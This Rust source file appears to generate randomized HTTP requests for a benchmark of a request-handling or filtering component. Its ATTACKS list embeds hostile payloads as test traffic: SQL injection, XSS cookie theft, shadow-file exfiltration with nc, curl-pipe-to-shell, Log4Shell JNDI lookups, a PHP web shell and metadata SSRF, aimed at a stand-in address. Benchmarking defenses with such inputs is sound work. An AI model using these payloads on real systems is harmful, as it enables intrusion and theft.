//! The requests of the bench: six shapes, and no two requests of a shape alike.

use std::fmt::Write as _;

use crate::bench::load::Chance;
use crate::http::Request;

/// One kind of request.
pub(super) struct Shape {
    pub(super) name: &'static str,
    make: fn(&mut Chance) -> Asked,
}

pub(super) const SHAPES: &[Shape] = &[
    Shape { name: "get", make: get },
    Shape { name: "json", make: json },
    Shape { name: "form", make: form },
    Shape { name: "injection", make: injection },
    Shape { name: "attacks", make: attack },
    Shape { name: "prose", make: prose },
];

/// Words that ordinary texts are made of, blanks between them.
const WORDS: &str = "\
     account across afternoon almost answer apple autumn balcony basket before behind bicycle blanket bottle \
     breakfast bridge brother butter camera candle carpet castle chair cheese children church clean coffee colour \
     corner cotton courier cousin cream credit daughter december delivery desk dinner district doctor dozen dress \
     during early engine evening family festival finger floor forest friday garden glass green ground guest hammer \
     harbour holiday honey invoice island jacket january journey kitchen ladder lake lamp leather lemon letter \
     library machine march market meadow message middle minute mirror monday morning mountain museum napkin needle \
     neighbour number ocean office orange order packet painter paper parcel pencil people pepper piano picture \
     pillow planet pocket potato present quiet railway rainbow receipt red river roof saddle salad school season \
     shelf shirt silver sister sofa spoon station stone street sugar summer sunday table teacher ticket tomato \
     towel train travel umbrella uncle valley village violin wagon wallet water weather window winter wooden yellow \
     yesterday zebra";

/// What attackers send, of every family.
const ATTACKS: &[&str] = &[
    "1' OR '1'='1' -- ",
    "7 UNION ALL SELECT login, secret, NULL FROM members",
    "1; DROP TABLE parcels; --",
    "' AND SLEEP(5) AND 'a'='a",
    "admin'/**/or/**/1=1#",
    "1) AND (SELECT COUNT(*) FROM information_schema.tables) > 0 --",
    "<script>document.location='//203.0.113.9/?'+document.cookie</script>",
    "<img src=x onerror=alert(document.domain)>",
    "\"><svg/onload=confirm(1)>",
    "javascript:alert(String.fromCharCode(88))",
    "../../../../../etc/passwd",
    "..%2f..%2f..%2fwindows%2fwin.ini",
    "/proc/self/environ",
    "; cat /etc/shadow | nc 203.0.113.9 4444",
    "| ping -c 3 203.0.113.9",
    "`id`",
    "$(curl http://203.0.113.9/x.sh | sh)",
    "${jndi:ldap://203.0.113.9:1389/a}",
    "${${lower:j}ndi:rmi://203.0.113.9/b}",
    "<?php system($_GET['c']); ?>",
    "php://filter/convert.base64-encode/resource=index.php",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://203.0.113.9/shell.txt?",
    "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "{{7*7}}{{config.items()}}",
    "java.lang.Runtime.getRuntime().exec('id')",
    "x%0d%0aSet-Cookie: admin=1",
    "() { :; }; /bin/bash -c 'id'",
    "*)(uid=*))(|(uid=*",
];

/// One request.
pub(super) struct Asked {
    pub(super) path: String,
    pub(super) body: String,
    kind: &'static str,
    session: String,
}

impl Asked {
    /// As the client sends it.
    pub(super) fn as_request(&self) -> Owned<'_> {
        Owned { asked: self, headers: self.headers() }
    }

    fn headers(&self) -> Vec<(&str, &str)> {
        let mut headers = vec![
            ("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"),
            ("accept", "application/json, text/html;q=0.9"),
            ("accept-language", "en-GB,en;q=0.8"),
            ("cookie", &self.session),
        ];
        if !self.kind.is_empty() {
            headers.push(("content-type", self.kind));
        }
        headers
    }
}

/// A request with the headers it is sent with.
pub(super) struct Owned<'a> {
    asked: &'a Asked,
    headers: Vec<(&'a str, &'a str)>,
}

impl Owned<'_> {
    pub(super) fn request(&self) -> Request<'_> {
        let method = if self.asked.body.is_empty() { "GET" } else { "POST" };
        Request { method, path: &self.asked.path, headers: &self.headers, body: self.asked.body.as_bytes() }
    }
}

/// So many requests of a shape, others in every round.
pub(super) fn requests(shape: &Shape, count: usize, round: u64) -> Vec<Asked> {
    let mut chance = Chance::seeded(round + 1);
    // The first draws of neighbouring seeds are alike.
    chance.next();
    std::iter::repeat_with(|| (shape.make)(&mut chance)).take(count).collect()
}

fn asked(chance: &mut Chance, path: String, kind: &'static str, body: String) -> Asked {
    let session = format!("session={:016x}; theme=dark", chance.next());
    Asked { path, body, kind, session }
}

fn word(chance: &mut Chance) -> &'static str {
    // The list never changes; counting it each time would cost more than it says.
    const COUNT: usize = 155;
    WORDS.split(' ').nth(chance.below(COUNT)).unwrap_or("word")
}

fn text(chance: &mut Chance, words: usize) -> String {
    let mut text = String::new();
    for place in 0..words {
        let end = place + 1 == words || chance.below(12) == 0;
        write!(text, "{}{}", word(chance), if end { ". " } else { " " }).unwrap_or_default();
    }
    text.trim_end().to_owned()
}

/// Everything but letters and digits as escapes.
fn escaped(text: &str) -> String {
    text.bytes().fold(String::new(), |mut escaped, byte| {
        match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'.' | b'-' | b'_' => escaped.push(char::from(byte)),
            b' ' => escaped.push('+'),
            _ => write!(escaped, "%{byte:02X}").unwrap_or_default(),
        }
        escaped
    })
}

/// Six parameters.
fn get(chance: &mut Chance) -> Asked {
    let path = format!(
        "/orders/search?customer={}&page={}&sort={}&from=2026-0{}-11&city={}&q={}+{}",
        chance.below(1_000_000),
        chance.below(40),
        word(chance),
        1 + chance.below(9),
        word(chance),
        word(chance),
        word(chance)
    );
    asked(chance, path, "", String::new())
}

/// An order of about 2 KB.
fn json(chance: &mut Chance) -> Asked {
    let mut body =
        format!("{{\"id\":{},\"customer\":{{\"name\":\"{}\"}},\"items\":[", chance.below(1_000_000), word(chance));
    while body.len() < 1_900 {
        let (sku, count, name, note) = (chance.below(100_000), chance.below(9), text(chance, 2), text(chance, 7));
        let item = format!("{{\"sku\":\"A-{sku}\",\"name\":\"{name}\",\"count\":{count},\"note\":\"{note}\"}},");
        body.push_str(&item);
    }
    body.pop();
    body.push_str("]}");
    asked(chance, "/orders".to_owned(), "application/json", body)
}

/// A form of about 10 KB.
fn form(chance: &mut Chance) -> Asked {
    let mut body = "subject=parcel".to_owned();
    for field in 0.. {
        if body.len() >= 9_800 {
            break;
        }
        write!(body, "&answer{field}={}", escaped(&text(chance, 26))).unwrap_or_default();
    }
    asked(chance, "/forms/contact".to_owned(), "application/x-www-form-urlencoded", body)
}

/// One injection, with other numbers each time.
fn injection(chance: &mut Chance) -> Asked {
    let (left, right) = (chance.below(1_000_000), chance.below(1_000));
    let path = format!("/orders?id={}", escaped(&format!("{left}' OR '{right}'='{right}' -- ")));
    asked(chance, path, "", String::new())
}

/// An attack of any family, in a query, a form or JSON.
fn attack(chance: &mut Chance) -> Asked {
    let attack = ATTACKS.get(chance.below(ATTACKS.len())).copied().unwrap_or_default();
    let value = match chance.below(3) {
        0 => attack.to_owned(),
        1 => format!("{attack}{}", chance.below(1_000)),
        _ => format!("{} {attack}", word(chance)),
    };
    match chance.below(3) {
        0 => asked(chance, format!("/items?name={}&page=1", escaped(&value)), "", String::new()),
        1 => {
            let body = format!("name={}&city={}", escaped(&value), word(chance));
            asked(chance, "/items".to_owned(), "application/x-www-form-urlencoded", body)
        }
        _ => {
            let body = serde_json::json!({ "id": chance.below(1_000), "name": value }).to_string();
            asked(chance, "/items".to_owned(), "application/json", body)
        }
    }
}

/// An article.
fn prose(chance: &mut Chance) -> Asked {
    let body = serde_json::json!({ "title": text(chance, 5), "text": text(chance, 320) }).to_string();
    asked(chance, "/articles".to_owned(), "application/json", body)
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn no_two_requests_are_alike() {
        for shape in SHAPES {
            let mut seen = BTreeSet::new();
            for round in 0..2 {
                seen.extend(
                    requests(shape, 300, round).into_iter().map(|asked| (asked.path, asked.body, asked.session)),
                );
            }
            assert_eq!(seen.len(), 600, "{}", shape.name);
        }
    }

    #[test]
    fn shapes_have_their_sizes() {
        let size = |place: usize| requests(&SHAPES[place], 1, 1)[0].body.len();
        assert!((1_900..2_300).contains(&size(1)) && (9_800..10_200).contains(&size(2)));
    }

    #[test]
    fn every_word_can_be_drawn() {
        assert_eq!(WORDS.split(' ').count(), 155);
    }
}
